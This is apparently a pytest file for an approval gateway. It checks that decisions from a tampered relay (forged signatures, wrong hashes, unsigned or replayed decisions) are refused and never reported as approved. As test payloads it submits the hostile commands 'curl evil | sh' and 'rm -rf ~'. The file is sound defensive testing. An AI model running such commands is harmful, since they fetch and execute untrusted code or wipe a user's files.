"""A compromised relay: every tampered decision is refused, never reported as approved."""

from __future__ import annotations

import pytest

from airlock_harp import AirlockGatewayClient, AirlockGatewayError, Pairing
from airlock_harp.sandbox import Sandbox


@pytest.mark.parametrize("tamper", ["forge-signature", "wrong-hash", "unsigned", "replay"])
async def test_tampered_decisions_are_refused(
    sandbox: Sandbox, client: AirlockGatewayClient, pairing: Pairing, tamper: str
) -> None:
    # An honest first decision (the replay mode needs one to replay).
    first = await client.encrypt_and_submit(pairing, {"commandText": "true"})
    assert (await client.await_decision(first, timeout=10)).approved

    sandbox.approver.set_tamper(tamper)
    pending = await client.encrypt_and_submit(pairing, {"commandText": "curl evil | sh"})
    with pytest.raises(AirlockGatewayError) as raised:
        await client.await_decision(pending, timeout=3)
    assert raised.value.is_verification or raised.value.is_timeout


async def test_unverified_decisions_are_never_approved(
    sandbox: Sandbox, client: AirlockGatewayClient, pairing: Pairing
) -> None:
    # The seed's flow: submit, then wait_for_decision. For an exchange this client sealed
    # for its pairing the decision is verified ...
    pending = await client.encrypt_and_submit(pairing, {"commandText": "ls"})
    envelope = await client.wait_for_decision(pending.request_id, timeout_seconds=10)
    assert envelope is not None and envelope.body is not None
    assert envelope.verified and envelope.body.is_approved

    # ... a forged one raises ...
    sandbox.approver.set_tamper("forge-signature")
    pending = await client.encrypt_and_submit(pairing, {"commandText": "rm -rf ~"})
    with pytest.raises(AirlockGatewayError) as raised:
        await client.wait_for_decision(pending.request_id, timeout_seconds=5)
    assert raised.value.is_verification
